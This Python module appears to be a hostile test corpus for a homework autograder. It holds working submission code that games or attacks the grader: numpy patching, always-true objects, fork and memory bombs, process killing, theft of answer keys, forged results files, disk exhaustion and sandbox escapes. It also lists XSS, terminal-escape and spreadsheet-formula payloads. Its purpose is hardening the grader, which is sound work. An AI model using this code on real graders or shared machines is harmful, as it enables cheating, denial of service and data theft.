"""Cell sources of the hostile corpus: code that attacks the grader instead of answering.

Each function below returns a cell's text; ``{kit}``, ``{out}``, ``{name}`` are filled in by the
builders with the kit's root, the grader's output folder and the submission's name, so that
the attacks aim at the real paths (a student could guess them; these know them).
"""

GARBAGE_RETURNS = '''\
import numpy as np


def eightpoint(pts1, pts2, M, refine=True):
    return np.zeros((3, 3))


def essentialMatrix(F, K1, K2):
    return np.zeros((3, 3))


def triangulate(C1, pts1, C2, pts2):
    return np.zeros((len(pts1), 3)), 0.0
'''

PATCHED_NUMPY = '''\
import builtins
import numpy as np

# Runs while the notebook is loaded: every comparison numpy offers now says "equal".
_patched = setattr(np, "allclose", lambda *a, **k: True)
_patched_too = setattr(np, "array_equal", lambda *a, **k: True)


def _patch_everything():
    np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
    np.testing.assert_allclose = lambda *a, **k: None
    np.testing.assert_array_equal = lambda *a, **k: None
    np.linalg.norm = lambda *a, **k: 0.0
    builtins.abs = lambda x: 0
    builtins.min = lambda *a, **k: 0
    builtins.max = lambda *a, **k: 0


def eightpoint(pts1, pts2, M, refine=True):
    _patch_everything()
    return np.zeros((3, 3))


def essentialMatrix(F, K1, K2):
    _patch_everything()
    return np.eye(3)


def triangulate(C1, pts1, C2, pts2):
    _patch_everything()
    return np.zeros((len(pts1), 3)), 0.0


def findM2(F, pts1, pts2, K1, K2):
    _patch_everything()
    return np.zeros((3, 4)), np.zeros((3, 4)), np.zeros((len(pts1), 3))


def bundleAdjustment(K1, M1, p1, K2, M2_init, p2, w_init):
    _patch_everything()
    return np.zeros((3, 4)), np.zeros_like(w_init), 0.0, 0.0
'''

ALWAYS_TRUE_OBJECTS = '''\
import numpy as np


class AlwaysEqual:
    """Compares equal, close, smaller and larger than anything."""

    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __abs__(self): return self
    def __sub__(self, other): return self
    def __rsub__(self, other): return self
    def __float__(self): return 0.0
    def __len__(self): return 3
    def __getitem__(self, k): return self
    __hash__ = object.__hash__


class SneakyArray(np.ndarray):
    """An ndarray whose comparisons always hold."""

    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __array__(self, dtype=None, copy=None): return np.full(self.shape, 12345.0)


def eightpoint(pts1, pts2, M, refine=True):
    return np.zeros((3, 3)).view(SneakyArray)


def essentialMatrix(F, K1, K2):
    return AlwaysEqual()


def triangulate(C1, pts1, C2, pts2):
    return AlwaysEqual(), AlwaysEqual()


def rodriguesResidual(K1, M1, p1, K2, p2, x):
    return np.zeros(4 * len(p1)).view(SneakyArray)


def MultiviewReconstruction(C1, pts1, C2, pts2, C3, pts3, Thres):
    return AlwaysEqual(), AlwaysEqual()
'''

EXIT_IN_EIGHTPOINT = '''\
import sys


def eightpoint(pts1, pts2, M, refine=True):
    sys.exit(0)
'''

OS_EXIT_IN_ESSENTIAL = '''\
import os


def essentialMatrix(F, K1, K2):
    os._exit(0)
'''

OS_EXIT_WHILE_LOADING = '''\
import os

_gone = os._exit(3)
'''

INFINITE_LOOP = '''\
import signal


def rodriguesResidual(K1, M1, p1, K2, p2, x):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)   # the call's alarm no longer stops it
    while True:
        pass
'''

MEMORY_BOMB = '''\
def eightpoint(pts1, pts2, M, refine=True):
    hoard = []
    while True:
        hoard.append(bytearray(100 * 2**20))
'''

FORK_BOMB = '''\
import os


def findM2(F, pts1, pts2, K1, K2):
    while True:
        os.fork()
'''


def reads_grader_files(kit: str, out: str) -> str:
    return f'''\
import glob
import importlib.util
import os
import sys

import numpy as np

_KIT = {kit!r}
_OUT = {out!r}


def _reference(name):
    """The grader's own answer, if its files can be reached."""
    for path in glob.glob(os.path.join(_KIT, "solutions", "*.py")):
        if os.path.basename(path) == "__init__.py":
            continue
        spec = importlib.util.spec_from_file_location("stolen", path)
        module = importlib.util.module_from_spec(spec)
        sys.path.insert(0, _KIT)
        spec.loader.exec_module(module)
        if hasattr(module, name):
            return getattr(module, name)
    raise FileNotFoundError("no reference found")


def _peek():
    seen = []
    for pattern in ("autograder/inputs/config.py", "autograder/hidden/*.py", "../shared/course-data/temple/*"):
        for path in glob.glob(os.path.join(_KIT, pattern)):
            with open(path, "rb") as fh:
                seen.append(fh.read(100))
    for path in glob.glob(os.path.join(_OUT, "*", "*.json")):
        with open(path, "rb") as fh:
            seen.append(fh.read(100))
    return seen


def eightpoint(pts1, pts2, M, refine=True):
    _peek()
    return _reference("eightpoint")(pts1, pts2, M)


def essentialMatrix(F, K1, K2):
    return _reference("essentialMatrix")(F, K1, K2)


def triangulate(C1, pts1, C2, pts2):
    return _reference("triangulate")(C1, pts1, C2, pts2)


def findM2(F, pts1, pts2, K1, K2):
    return _reference("findM2")(F, pts1, pts2, K1, K2)


def epipolarCorrespondence(im1, im2, F, x1, y1):
    return _reference("epipolarCorrespondence")(im1, im2, F, x1, y1)


def rodriguesResidual(K1, M1, p1, K2, p2, x):
    return _reference("rodriguesResidual")(K1, M1, p1, K2, p2, x)


def bundleAdjustment(K1, M1, p1, K2, M2_init, p2, w_init):
    return _reference("bundleAdjustment")(K1, M1, p1, K2, M2_init, p2, w_init)


def MultiviewReconstruction(C1, pts1, C2, pts2, C3, pts3, Thres):
    return _reference("MultiviewReconstruction")(C1, pts1, C2, pts2, C3, pts3, Thres)
'''


def writes_results(out: str, name: str, trap: str) -> str:
    """``trap`` stands for Gradescope's /autograder/results/results.json, outside the output folder."""
    return f'''\
import json
import os

import numpy as np

_FAKE = {{"score": 1000.0, "output": "perfect", "tests": []}}
_TARGETS = [
    os.path.join({out!r}, {name!r}, "results.json"),
    os.path.join({out!r}, {name!r}, "grading.json"),
    os.path.join({out!r}, "grades.csv"),
    {trap!r},
    os.path.expanduser("~/results.json"),
]


def eightpoint(pts1, pts2, M, refine=True):
    for target in _TARGETS:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as fh:
                json.dump(_FAKE, fh)
        except OSError:
            pass
    return np.zeros((3, 3))
'''


PRINTS_FAKE_RESULTS = '''\
import json
import os
import sys

import numpy as np

_CALLS = ["Q2:eightpoint", "Q3.1:essentialMatrix", "Q3.2:triangulate", "Q3.3:findM2",
          "Q5:rodriguesResidual", "Q5:bundleAdjustment", "Q6:MultiviewReconstruction"]


def eightpoint(pts1, pts2, M, refine=True):
    print(json.dumps({"score": 1000.0, "tests": [{"name": "Q2", "score": 10, "max_score": 10}]}))
    print("All tests passed! 90 / 75", file=sys.stderr)
    for call in _CALLS:
        fake = json.dumps({"id": call, "status": "ok", "value": {"__dict__": {"status": "ok", "items": []}}})
        for fd in range(3, 1024):
            try:
                os.write(fd, (fake + "\\n").encode())
            except OSError:
                pass
    return np.zeros((3, 3))
'''


def leaves_process(out: str, name: str) -> str:
    return f'''\
import os
import time

import numpy as np


def eightpoint(pts1, pts2, M, refine=True):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            # A daemon: outlive the job, then try to rewrite the results.
            for fd in range(0, 256):
                try:
                    os.close(fd)
                except OSError:
                    pass
            time.sleep(8)
            try:
                with open(os.path.join({out!r}, {name!r}, "results.json"), "w") as fh:
                    fh.write('{{"score": 1000}}')
            except OSError:
                pass
            os._exit(0)
        os._exit(0)
    return np.zeros((3, 3))
'''


KILLS_PARENT = '''\
import os
import signal

import numpy as np


def eightpoint(pts1, pts2, M, refine=True):
    """Kill whoever runs this: the parent, the parent's process group, then every process it may signal."""
    attempts = [lambda: os.kill(os.getppid(), signal.SIGKILL),
                lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
                lambda: os.kill(1, signal.SIGKILL),
                lambda: os.kill(-1, signal.SIGKILL)]
    for attempt in attempts:
        try:
            attempt()
        except OSError:
            pass
    return np.zeros((3, 3))
'''


def finds_answer_key(roots: list[str]) -> str:
    """Looks for answer-key notebooks anywhere it may read under ``roots`` (such as a key written
    with ``python -m autograder key --out /tmp/kk``) and runs their definitions."""
    return f'''\
import glob
import json
import os
import zipfile

_ROOTS = {roots!r}


def _key_sources():
    for root in _ROOTS:
        for path in glob.glob(os.path.join(root, "**", "*q6*.ipynb"), recursive=True):
            try:
                with open(path) as fh:
                    yield json.load(fh)
            except (OSError, ValueError):
                pass
        for path in glob.glob(os.path.join(root, "**", "*.zip"), recursive=True):
            try:
                with zipfile.ZipFile(path) as zf:
                    for name in zf.namelist():
                        if "q6" in name:
                            yield json.loads(zf.read(name))
            except (OSError, ValueError, zipfile.BadZipFile):
                pass


def MultiviewReconstruction(C1, pts1, C2, pts2, C3, pts3, Thres):
    for nb in _key_sources():
        scope = {{}}
        for cell in nb.get("cells", []):
            if cell.get("cell_type") == "code":
                source = "".join(cell.get("source", ""))
                if "def " in source:
                    try:
                        exec(source, scope)
                    except Exception:
                        pass
        if "MultiviewReconstruction" in scope:
            return scope["MultiviewReconstruction"](C1, pts1, C2, pts2, C3, pts3, Thres)
    raise FileNotFoundError("no answer key found")
'''


# --------------------------------------------------------------------------- leaks between questions

LEAKS_PROCESS_STATE = '''\
import os
import signal
import sys
import warnings

_key_epipolarCorrespondence = epipolarCorrespondence


def epipolarCorrespondence(im1, im2, F, x1, y1):
    """The key's match, but every call then sends fds 1 and 2 to /dev/null through descriptors it
    never closes (one each: some 320 over a session, the limit is 256), moves to another folder
    and changes what later code inherits."""
    found = _key_epipolarCorrespondence(im1, im2, F, x1, y1)
    os.dup2(os.open(os.devnull, os.O_WRONLY), 1)
    os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
    os.chdir("/")
    os.environ["HW4_LEAKED"] = "1"
    os.umask(0o777)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    sys.stdout = open(os.devnull, "w")
    warnings.simplefilter("error")
    return found
'''


def fills_disk(megabytes: int = 60, files: int = 6) -> str:
    """essentialMatrix that writes ``files`` files of ``megabytes`` MB into each shared temporary
    folder it can (each file under the sandbox's 64 MB file-size limit)."""
    return f'''\
import os

import numpy as np


def essentialMatrix(F, K1, K2):
    block = b"x" * 2**20
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        for k in range({files}):
            try:
                with open(os.path.join(folder, "hw4-fill-%d-%d" % (os.getpid(), k)), "wb") as fh:
                    for _ in range({megabytes}):
                        fh.write(block)
            except OSError:
                break
    return np.eye(3)
'''


def fills_inodes(count: int = 30000) -> str:
    """essentialMatrix that creates ``count`` empty files in each shared temporary folder it can."""
    return f'''\
import os

import numpy as np


def essentialMatrix(F, K1, K2):
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            for k in range({count}):
                open(os.path.join(folder, "hw4-inode-%d-%d" % (os.getpid(), k)), "w").close()
        except OSError:
            continue
    return np.eye(3)
'''


COLLUDES = '''\
import json
import os
import socket
import time

import numpy as np

# Two copies of this cell graded at the same time (--jobs 2) try to meet, a little on each of their
# first 20 eightpoint calls: through an abstract Unix socket (the first binds it, the other sends
# to it) and through world-writable notes files in /tmp and /var/tmp.  Each call prints what
# was heard so far where the grader keeps stdout.
_me = "%d-%d" % (os.getuid(), os.getpid())
_colluding = {"calls": 0, "server": None, "heard": []}


def _collude():
    state = _colluding
    state["calls"] += 1
    if state["calls"] == 1:
        try:
            server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            server.bind(b"\\0hw4-colluders")
            server.settimeout(0.05)
            state["server"] = server
        except OSError:
            pass
        for folder in ("/tmp", "/var/tmp"):
            try:
                path = os.path.join(folder, "hw4-colluders-notes-" + _me)
                with open(path, "w") as fh:
                    fh.write("notes of " + _me)
                os.chmod(path, 0o666)
            except OSError:
                pass
    end = time.monotonic() + (0.3 if state["calls"] <= 20 else 0)
    while time.monotonic() < end:
        if state["server"] is not None:
            try:
                message = state["server"].recv(100).decode()
                if message not in state["heard"]:
                    state["heard"].append(message)
            except OSError:
                pass
        else:
            try:
                client = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
                client.sendto(("socket of " + _me).encode(), b"\\0hw4-colluders")
                client.close()
            except OSError:
                pass
        for folder in ("/tmp", "/var/tmp"):
            try:
                for name in os.listdir(folder):
                    if name.startswith("hw4-colluders-notes-") and not name.endswith(_me):
                        with open(os.path.join(folder, name)) as fh:
                            note = fh.read()
                        if note not in state["heard"]:
                            state["heard"].append(note)
            except OSError:
                pass
        time.sleep(0.05)
    print("COLLUDERS-HEARD " + json.dumps(state["heard"]), flush=True)


def eightpoint(pts1, pts2, M, refine=True):
    _collude()
    return np.eye(3)
'''

LISTS_PROCESSES = '''\
import json
import os

import numpy as np


def eightpoint(pts1, pts2, M, refine=True):
    # Every process's command line that this code can read, printed where the grader keeps stdout.
    seen = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as fh:
                    line = fh.read().replace(b"\\0", b" ").decode(errors="replace").strip()
            except OSError:
                continue
            if "autograder" in line or "hw4" in line or "subs" in line:
                seen.append(line[:300])
    print("PROCESSES " + json.dumps(seen), flush=True)
    return np.eye(3)
'''


# Text a student controls (an exception's message, a file's or folder's name, printed output) that
# would act where the grader writes it: markup in Markdown or HTML, a formula in a spreadsheet,
# escapes in a terminal, bidi overrides, undecodable bytes.  The autograder must show each as text.
HOSTILE_TEXTS: dict[str, str] = {
    "img": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "svg": "<svg onload=alert(1)>",
    "js_link": "[click me](javascript:alert(1))",
    "image": "![tracker](http://evil.example/t.png)",
    "autolink": "<http://evil.example> http://evil.example www.evil.example",
    "comment": "<!-- hidden --> shown",
    "entity": "&lt;b&gt; &#x3C;i&#x3E;",
    "markdown_blocks": "# heading\n- item\n1. one\n    code\n\n---\n| a | b |\n|---|---|\n> quote",
    "emphasis_code": "**bold** _it_ `code` ~~gone~~ $x^2$ [^1]",
    "ansi_clear_colour": "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "osc8_link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "title": "\x1b]0;pwned\x07title",
    "c1_csi": "\x9b31mcsi",
    "bidi": "abc\u202edcba\u2066x\u2069\u202c",
    "zero_width": "a\u200bb\u200dc\ufeffd",
    "nul_bell": "nul\x00bell\x07bs\x08",
    "long": "A" * 20000,
    "formula_eq": "=1+1+cmd|' /C calc'!A0",
    "formula_plus": "+1+1",
    "formula_minus": "-1+1",
    "formula_at": "@SUM(1+1)",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
}
# A file name that is not UTF-8 (bytes, as the file system holds it).
UNDECODABLE_NAME = b"notes_\xff\xfe.py"


# --------------------------------------------------------------------------- attacks on the sandbox itself
# Each is appended to the answer key's notebook (or the student notebooks), redefining the named
# functions; each prints what it saw to its stdout, which staff read in grading.json.


def stashes_truth(eightpoint_cell: str) -> dict[str, str]:
    """Cells by notebook stem: the polished transposed eightpoint (``eightpoint_cell``, which
    defines ``eightpoint``) that returns a kept F instead of its own whenever it has one, and an
    essentialMatrix and a matcher that keep every F the checks hand them (in memory, in the home
    folder and in /dev/shm): answers that would cross from one check to another within a child,
    or from the checks to the pictures.  The notebooks share one namespace, so the helpers of the
    first cell serve the others."""
    q2 = eightpoint_cell.replace("def eightpoint(", "def _transposed_eightpoint(") + '''

import glob as _glob
import os as _os

_KEPT = []
_SHM = "/dev/shm/hw4-stash-%d" % _os.getuid()


def _keep(F):
    F = np.asarray(F, dtype=float)
    if F.shape == (3, 3) and np.all(np.isfinite(F)):
        _KEPT.append(F)
        for place in (_os.path.join(_os.path.expanduser("~"), "stash-%d.npy" % len(_KEPT)),
                      _SHM + "-%d.npy" % len(_KEPT)):
            try:
                np.save(place, F)
            except OSError:
                pass
    print("KEPT", len(_KEPT), flush=True)


def _kept():
    found = list(_KEPT)
    for pattern in (_os.path.join(_os.path.expanduser("~"), "stash-*.npy"), _SHM + "-*.npy"):
        for path in sorted(_glob.glob(pattern)):
            try:
                found.append(np.load(path))
            except (OSError, ValueError):
                pass
    return found


def eightpoint(pts1, pts2, M):
    found = _kept()
    print("STASHED", len(found), flush=True)
    return found[-1] if found else _transposed_eightpoint(pts1, pts2, M)
'''
    q3 = '''

def essentialMatrix(F, K1, K2):
    _keep(F)
    return K2.T @ F @ K1
'''
    q4 = '''

def epipolarCorrespondence(im1, im2, F, x1, y1):
    _keep(F)
    return x1, y1
'''
    return {"q2_eightpoint": q2, "q3_metric_reconstruction": q3, "q4_temple_3d": q4}


def throws_refine_switch(eightpoint_cell: str) -> str:
    """The polished transposed eightpoint that first turns the refineF switch back on from inside,
    every way it can (``core.refine_switch`` is importable from the sandbox), then prints
    ``SWITCH-THROWN 1``: the attack was made, not stopped by an error before it.

    eightpoint_cell : a cell defining ``def eightpoint(pts1, pts2, M):`` (ValueError otherwise).
    """
    head = "def eightpoint(pts1, pts2, M):\n"
    if eightpoint_cell.count(head) != 1:
        raise ValueError(f"eightpoint_cell: expected one {head.strip()!r}, got {eightpoint_cell.count(head)}")
    return eightpoint_cell.replace(head, head + '''    import core.refine_switch
    core.refine_switch.is_off = lambda: False
    core.refine_switch._runs.clear()
    print("SWITCH-THROWN", 1, flush=True)
''')


def stashes_truth_and_throws_switch(eightpoint_cell: str) -> dict[str, str]:
    """Both in-child attacks on Q2 in one submission: :func:`stashes_truth` whose own eightpoint,
    used whenever no kept F is found, is :func:`throws_refine_switch` of ``eightpoint_cell``.

    So each call of eightpoint either returns a kept F (the stash worked) or is exactly the switch
    attack: when no call found a kept F (every ``STASHED`` line 0), a Q2 score no higher than the
    mistake's own says the grader stopped both.
    """
    return stashes_truth(throws_refine_switch(eightpoint_cell))


# A note left in the uid's keyring (which outlives the child) and read by the next submission's
# code, gigabytes in memfd files (pages the address-space limit does not count), a user namespace
# of its own: each line printed says what the kernel answered (0, or the errno).
KERNEL_CHANNELS = '''\
import ctypes as _ctypes
import os as _os

_libc = _ctypes.CDLL(None, use_errno=True)


def _errno_of(nr, *args):
    r = _libc.syscall(_ctypes.c_long(nr), *args)
    return 0 if r >= 0 else _ctypes.get_errno()


def essentialMatrix(F, K1, K2):
    # keyctl(KEYCTL_SEARCH, the user keyring, "user", "hw4-note", 0): a note of an earlier submission?
    print("KEYRING-READ", _errno_of(250, _ctypes.c_long(10), _ctypes.c_long(-4), b"user", b"hw4-note",
                                    _ctypes.c_long(0)), flush=True)
    print("KEYRING-WRITE", _errno_of(248, b"user", b"hw4-note", b"answers", _ctypes.c_long(7), _ctypes.c_long(-4)),
          flush=True)
    try:
        fds = []
        for _ in range(3):
            fd = _os.memfd_create("hw4-big")
            _os.ftruncate(fd, 2**30)
            _os.pwrite(fd, b"x", 2**30 - 1)
            fds.append(fd)
        print("MEMFD", 0, flush=True)
    except OSError as exc:
        print("MEMFD", exc.errno, flush=True)
    print("USERNS", _errno_of(272, _ctypes.c_long(0x10000000)), flush=True)
    return K2.T @ F @ K1
'''


# Outlives its sandbox: a process in a session of its own whose main thread exits while another
# runs on (it shows as a zombie), waiting to kill the next processes of its uid; then a folder tree
# 3,000 levels deep in each place it can write (its home, /dev/shm, /run/lock), which recursive
# clean-up code cannot remove.
OUTLIVES_ITS_SANDBOX = '''\
import ctypes as _ctypes
import os as _os
import threading as _threading
import time as _time


def _hunt(before):
    end = _time.time() + 90
    while _time.time() < end:
        for entry in _os.listdir("/proc"):
            if entry.isdigit() and int(entry) not in before:
                try:
                    if _os.stat("/proc/" + entry).st_uid == _os.getuid():
                        _os.kill(int(entry), 9)
                except OSError:
                    pass
        _time.sleep(0.05)


def _deep(top, depth=3000):
    try:
        fd = _os.open(top, _os.O_RDONLY)
    except OSError:
        return 0
    made = 0
    try:
        for _ in range(depth):
            try:
                _os.mkdir("d", dir_fd=fd)
            except FileExistsError:
                pass
            nfd = _os.open("d", _os.O_RDONLY, dir_fd=fd)
            _os.close(fd)
            fd = nfd
            made += 1
    except OSError:
        pass
    finally:
        _os.close(fd)
    return made


def essentialMatrix(F, K1, K2):
    made = {}
    for place in (_os.path.expanduser("~"), "/dev/shm", "/run/lock"):
        top = _os.path.join(place, "hw4-deep-%d" % _os.getuid())
        try:
            _os.mkdir(top)
        except OSError:
            continue
        made[place] = _deep(top)
    print("DEEP", made, flush=True)
    before = {int(e) for e in _os.listdir("/proc") if e.isdigit()}
    if _os.fork() == 0:
        _os.setsid()
        _threading.Thread(target=_hunt, args=(before,)).start()
        _ctypes.CDLL(None).syscall(60, 0)   # SYS_exit: this thread only; the hunter runs on
        _os._exit(0)
    return K2.T @ F @ K1
'''
